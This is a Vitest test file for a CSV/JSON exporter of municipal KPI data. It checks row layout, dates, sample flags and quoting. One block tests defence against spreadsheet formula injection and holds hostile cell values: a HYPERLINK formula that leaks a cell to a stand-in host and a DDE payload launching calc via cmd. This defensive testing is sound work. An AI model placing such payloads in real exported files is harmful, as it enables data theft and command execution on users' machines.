import type { Kpi } from '@keikaku/content-schemas'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { KPI_CSV_COLUMNS, kpiCsvRows, kpiJson, toCsv } from '../../src/lib/kpi-data.ts'

const kpi: Kpi = {
  key: 'kanko-kyaku',
  formerKeys: [],
  sampleFields: ['target'],
  updatedAt: '2026-03-31T20:00:00.000Z',
  kind: 'kpi',
  name: { ja: '観光客入込数, "延べ"', en: null },
  definition: null,
  unit: { ja: '万人回', en: '10,000 visits' },
  direction: 'higher',
  baseline: { fiscalYear: 2014, value: 280 },
  target: { fiscalYear: 2019, value: 320 },
  actuals: [
    { fiscalYear: 2016, value: 300, status: 'preliminary', note: { ja: '改行\nあり', en: null }, source: null, sample: true },
    { fiscalYear: 2015, value: 290, status: 'final', note: null, source: { ja: '市調べ', en: null }, sample: false },
  ],
  verifications: [],
  department: { ja: '商工観光部', en: null },
  plans: ['sogo-keikaku', 'sogo-senryaku'],
  goals: ['goal-1'],
  priorityProjects: [],
  strategyGoals: [],
  planItems: [],
  order: 1,
}

describe('kpiCsvRows', () => {
  it('is long format: baseline, actuals by year, target; Western years; units in their own column', () => {
    const rows = kpiCsvRows(kpi, '032093')
    expect(rows.map((r) => [r.value_type, r.fiscal_year, r.value, r.status])).toEqual([
      ['baseline', 2014, 280, ''],
      ['actual', 2015, 290, 'final'],
      ['actual', 2016, 300, 'preliminary'],
      ['target', 2019, 320, ''],
    ])
    expect(new Set(rows.map((r) => r.unit_ja))).toEqual(new Set(['万人回']))
    expect(rows[0].unit_en).toBe('10,000 visits')
  })

  it('dates the rows by the Tokyo calendar day, ISO style, and flags exactly the sample values', () => {
    const rows = kpiCsvRows(kpi, '032093')
    expect(rows[0].updated_date).toBe('2026-04-01')
    // baseline real, 2015 actual real, 2016 actual sample (its own flag), target sample (sampleFields)
    expect(rows.map((r) => r.sample)).toEqual(['false', 'false', 'true', 'true'])
    expect(rows[1].source_ja).toBe('市調べ')
  })
})

describe('toCsv', () => {
  const csv = toCsv(kpiCsvRows(kpi, '032093'))
  it('starts with a UTF-8 BOM and the header, and ends records with CRLF', () => {
    expect(csv.startsWith('\uFEFFmunicipality_code,kpi_key,kpi_name_ja,')).toBe(true)
    expect(csv.split('\r\n')[0]).toBe(`\uFEFF${KPI_CSV_COLUMNS.join(',')}`)
  })
  it('quotes commas, quotes and line breaks so that a parser reads back the same values', () => {
    const records = parse(csv, { bom: true, columns: true }) as Array<Record<string, string>>
    expect(records).toHaveLength(4)
    expect(records[0].kpi_name_ja).toBe('観光客入込数, "延べ"')
    expect(records[2].note_ja).toBe('改行\nあり')
  })
})

describe('toCsv against formula injection', () => {
  const hostile: Kpi = {
    ...kpi,
    name: { ja: '=HYPERLINK("http://example.invalid/?x="&A1,"詳細")', en: '-2+3' },
    unit: { ja: "+cmd|'/C calc'!A0", en: null },
    department: { ja: '@SUM(1+1)', en: null },
    baseline: { fiscalYear: 2014, value: -5 },
  }
  const records = parse(toCsv(kpiCsvRows(hostile, '032093')), { bom: true, columns: true }) as Array<Record<string, string>>
  it('prefixes text cells that a spreadsheet would run as a formula with an apostrophe', () => {
    expect(records[0].kpi_name_ja).toBe(`'${hostile.name.ja}`)
    expect(records[0].kpi_name_en).toBe("'-2+3")
    expect(records[0].unit_ja).toBe(`'${hostile.unit.ja}`)
    expect(records[0].department_ja).toBe("'@SUM(1+1)")
  })
  it('leaves numbers (negative ones too) and ordinary text as they are', () => {
    expect(records[0].value).toBe('-5')
    expect(records[0].fiscal_year).toBe('2014')
    expect(records[0].kpi_key).toBe('kanko-kyaku')
  })
})

describe('kpiJson', () => {
  it('adds the computed rating and the page URL to the record', () => {
    const json = kpiJson(kpi, 'https://example.jp/kpis/kanko-kyaku/')
    expect(json.url).toBe('https://example.jp/kpis/kanko-kyaku/')
    expect(json.computedRating).toEqual({ rating: 'on-track', progress: 0.5, elapsed: 0.4 })
    expect(json.key).toBe('kanko-kyaku')
  })
})
